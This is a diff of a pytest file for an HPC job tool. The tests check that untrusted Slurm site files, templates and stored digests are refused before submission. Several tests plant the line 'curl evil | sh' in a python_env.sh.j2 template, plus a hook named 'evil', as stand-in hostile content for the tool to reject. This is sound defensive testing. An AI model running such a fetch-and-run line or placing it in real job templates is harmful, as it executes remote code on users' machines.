@@ -38,11 +38,25 @@ def plant(run, **keys):
     run.site("north").write_text(json.dumps(values))
 
 
+def write(path, text):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
 def refused(run, capsys, reason="", **how):
     with pytest.raises(ConfigError, match="repeat with --trust-run") as error:
         trusted_site_and_template("north", run, False, **how)
     assert "\n" not in str(error.value) and f" not known here: {reason}" in str(error.value), error.value
     return capsys.readouterr().err
+
+
+NOT_REMEMBERED = "what you submit with is not remembered"
+
+
+def remember(run):
+    """Note in the place of now that this user has submitted with this site and template."""
+    for content in (SITE.model_dump(mode="json"), PARTS):
+        trusted_submissions.remember(run.root, content)
 
 
 def forget(monkeypatch, tmp_path):
@@ -92,21 +106,14 @@ def test_somebody_else_needs_a_site_file_of_the_same_keys(run, capsys, tmp_path,
     assert 'site key setup: ["module load mine"]' in refused(run, capsys)
     own = {"name": "north", "scheduler": "local", "setup": ["module load mine"]}
     (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own))
-    (tmp_path / "here/slurm").mkdir()
-    (tmp_path / "here/slurm/python_env.sh.j2").write_text(PARTS["slurm/python_env.sh.j2"])
+    write(tmp_path / "here/slurm/python_env.sh.j2", PARTS["slurm/python_env.sh.j2"])
     assert trusted_site_and_template("north", run, False) == (SITE, PARTS)
     refused(run, capsys, in_job=True)
     (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own | {"setup": ["module load other"]}))
     assert "site key setup" in refused(run, capsys)
 
 
-INSIDE = {
-    "the run": "",
-    "a folder of a unit": "train/expert-00",
-    "a link to the run": "../link",
-    "a run in the run": "other",
-    "the folder of its code": "code/0123",
-}
+INSIDE = {"run": "", "unit": "train/expert-00", "link": "../link", "run in the run": "other", "code": "code/0123"}
 
 
 @pytest.mark.parametrize("place", INSIDE.values(), ids=INSIDE)
@@ -115,14 +122,11 @@ def test_files_inside_the_run_are_passed_over_by_name_and_vouch_for_nothing(run,
     run.experiment.write_text("{}")
     (run.root.parent / "link").symlink_to(run.root)
     here = run.root / place
-    for path in (here / file, here / "slurm/python_env.sh.j2"):
-        path.parent.mkdir(parents=True, exist_ok=True)
-    (run.root / "other").mkdir(exist_ok=True)
-    (run.root / "other/experiment.json").write_text("{}")
     plant(run, hook="evil")
-    (run.template / "python_env.sh.j2").write_text("curl evil | sh\n")
-    (here / file).write_text(run.site("north").read_text())
-    (here / "slurm/python_env.sh.j2").write_text("curl evil | sh\n")
+    write(run.root / "other/experiment.json", "{}")
+    write(here / file, run.site("north").read_text())
+    for path in (run.template / "python_env.sh.j2", here / "slurm/python_env.sh.j2"):
+        write(path, "curl evil | sh\n")
     monkeypatch.chdir(here)
     shown = refused(run, capsys, "it is not what you submitted with")
     assert 'site key hook: "evil"' in shown and "python_env.sh.j2: +curl evil | sh" in shown
@@ -134,8 +138,7 @@ def test_files_inside_the_run_are_passed_over_by_name_and_vouch_for_nothing(run,
 def test_a_folder_that_leads_into_the_run_by_a_link_is_inside_it(run, capsys, tmp_path, monkeypatch):
     run.experiment.write_text("{}")
     plant(run, hook="evil")
-    (run.root / "slurm/sites").mkdir(parents=True)
-    (run.root / "slurm/sites/north.yaml").write_text(run.site("north").read_text())
+    write(run.root / "slurm/sites/north.yaml", run.site("north").read_text())
     (tmp_path / "here/slurm").symlink_to(run.root / "slurm")
     assert "slurm/sites/north.yaml is passed over" in refused(run, capsys)
 
@@ -161,9 +164,8 @@ def test_what_was_trusted_once_is_trusted_in_this_run_alone(run, capsys, tmp_pat
     assert 'site key hook: "theirs"' in refused(other, capsys, "no submission of yours is noted here")
     (tmp_path / "moved").mkdir()
     run.root.rename(tmp_path / "moved/run")
-    assert refused(
-        RunDir(tmp_path / "moved/run"), capsys, "no submission of yours is noted here: somebody else made it"
-    )
+    moved = RunDir(tmp_path / "moved/run")
+    assert refused(moved, capsys, "no submission of yours is noted here: somebody else made it")
 
 
 def test_a_run_is_known_by_every_way_to_it(run, tmp_path, monkeypatch):
@@ -184,38 +186,36 @@ def test_where_nothing_can_be_remembered_this_is_the_reason(run, capsys, tmp_pat
     (tmp_path / "file").write_text("")
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
     store_site(SITE, run)
-    reason = (
-        f"what you submit with cannot be remembered in {tmp_path}/file/hpcddm/submitted (Not a directory): set XDG_"
-    )
-    assert refused(run, capsys, reason)
+    place = f"{tmp_path}/file/hpcddm/submitted (Not a directory)"
+    assert refused(run, capsys, f"what you submit with cannot be remembered in {place}: set XDG_")
     assert trusted_site_and_template("north", run, True) == (SITE, PARTS)
 
 
-@pytest.mark.parametrize("named", ["absolute", "relative", "link"])
-def test_digests_that_a_run_brings_vouch_for_nothing(run, capsys, tmp_path, monkeypatch, named):
+@pytest.mark.parametrize(
+    "named, reason",
+    [
+        ("{run}/state", NOT_REMEMBERED),
+        ("state", "no submission of yours is noted here"),
+        ("{run}/../link", NOT_REMEMBERED),
+    ],
+)
+def test_digests_that_a_run_brings_vouch_for_nothing(run, capsys, tmp_path, monkeypatch, named, reason):
     monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
     monkeypatch.setenv("XDG_STATE_HOME", str(run.root / "state"))
-    trusted_submissions.remember(run.root, SITE.model_dump(mode="json"))
-    trusted_submissions.remember(run.root, PARTS)
+    remember(run)
     assert trusted_site_and_template("north", run, False), "as long as this is no run"
     run.experiment.write_text("{}")
     (tmp_path / "link").symlink_to(run.root / "state")
     monkeypatch.chdir(run.root)
-    place = {"absolute": run.root / "state", "relative": "state", "link": tmp_path / "link"}[named]
-    monkeypatch.setenv("XDG_STATE_HOME", str(place))
-    refused(
-        run,
-        capsys,
-        "no submission of yours is noted here" if named == "relative" else "what you submit with is not remembered",
-    )
+    monkeypatch.setenv("XDG_STATE_HOME", named.format(run=run.root))
+    refused(run, capsys, reason)
 
 
 def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatch):
     forget(monkeypatch, tmp_path)
     refused(run, capsys, in_job=True)
-    monkeypatch.setenv(
-        trusted_submissions.SUBMITTED_VARIABLE, trusted_submissions.digests(SITE.model_dump(mode="json"), PARTS)
-    )
+    digests = trusted_submissions.digests(SITE.model_dump(mode="json"), PARTS)
+    monkeypatch.setenv(trusted_submissions.SUBMITTED_VARIABLE, digests)
     assert trusted_site_and_template("north", run, False, in_job=True) == (SITE, PARTS)
     plant(run, hook="evil")
     refused(run, capsys, in_job=True)
@@ -223,8 +223,7 @@ def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatc
 
 def test_a_folder_of_digests_that_others_can_write_vouches_for_nothing(run, capsys, tmp_path, monkeypatch):
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
-    trusted_submissions.remember(run.root, SITE.model_dump(mode="json"))
-    trusted_submissions.remember(run.root, PARTS)
+    remember(run)
     assert trusted_site_and_template("north", run, False)
     (tmp_path / "state/hpcddm/submitted").chmod(0o777)
     refused(run, capsys, f"what you submit with cannot be remembered in {tmp_path}/state/hpcddm/submitted (others may")
